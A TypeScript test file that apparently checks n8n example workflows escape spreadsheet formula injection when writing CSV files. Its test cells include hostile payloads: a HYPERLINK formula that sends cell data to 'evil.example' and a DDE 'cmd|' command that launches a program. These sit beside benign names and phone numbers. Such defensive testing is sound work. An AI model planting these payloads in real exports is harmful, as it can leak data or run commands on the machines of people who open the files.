import type { IDataObject } from 'n8n-workflow';

import { readExamples } from '../../sandbox/workflows';
import { valueAt } from '../harness/n8n/expression';

/** A name that a stranger gave is never a formula in the spreadsheet program of the desk. */
const writers = readExamples().flatMap((example) =>
	example.nodes
		.filter(({ type, parameters }) => {
			const { operation } = parameters;
			return type.endsWith('.convertToFile') && !['toText', 'toBinary'].includes(String(operation));
		})
		.map(({ name }) => [example.file, example, name] as const),
);

it('these examples write a table', () => {
	expect(writers.map(([file]) => file)).toStrictEqual([
		'10-contacts-to-csv',
		'20-contacts-from-a-file',
	]);
});

const cells: Array<[cell: unknown, written?: string]> = [
	[
		'=HYPERLINK("https://evil.example/?"&A1,"Ada")',
		`'=HYPERLINK("https://evil.example/?"&A1,"Ada")`,
	],
	['+1+1', "'+1+1"],
	['-1+1', "'-1+1"],
	["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
	['@SUM(1,1)', "'@SUM(1,1)"],
	[' =1+1', "' =1+1"],
	['\t=1+1', "\t'=1+1"],
	['\r=1+1', "\r'=1+1"],
	['\n=1+1', "\n'=1+1"],
	['Ada;=1+1', "Ada;'=1+1"],
	['Ada\n=1+1', "Ada\n'=1+1"],
	['+1-555-010-0042', "'+1-555-010-0042"],
	['+1 (555) 010-0042', "'+1 (555) 010-0042"],
	['+=1', "'+=1"],
	['+15550100042;=1', "'+15550100042;'=1"],
	// What is no formula stays.
	['+1 55 50 10 00 42'],
	['+15550100042'],
	['Ada Lovelace'],
	["O'Brien"],
	['Anna-Lena'],
	['1 + 1 = 2'],
	['ada+list@example.com'],
	['":"=1'],
	['a","b":"-1'],
	['back\\slash "quote" {{ 5 }}'],
	['has an extension: "+1 555 x5"'],
	["'=1+1"],
	[''],
	[-5],
	[null],
];

describe.each(writers)('%s', (_file, { connections, nodes }, file) => {
	const before = Object.entries(connections).find(([, { main = [] }]) =>
		main.flat().some((link) => link?.node === file),
	);
	const { parameters } = nodes.find(({ name }) => name === before?.[0])!;
	const written = (row: IDataObject) =>
		JSON.parse(String(valueAt({}, String(parameters.jsonOutput), [{ json: row }]))) as IDataObject;

	it.each(cells)('%j', (cell, wanted = cell as string) => {
		const row = { Name: 'Ada', Cell: cell as string, Last: 'x' };
		expect(written(row)).toStrictEqual({ ...row, Cell: wanted });
		expect(written({ Cell: cell as string })).toStrictEqual({ Cell: wanted });
	});

	it('a heading is looked at, too', () => {
		expect(written({ '=1+1': 'x' })).toStrictEqual({ "'=1+1": 'x' });
	});
});
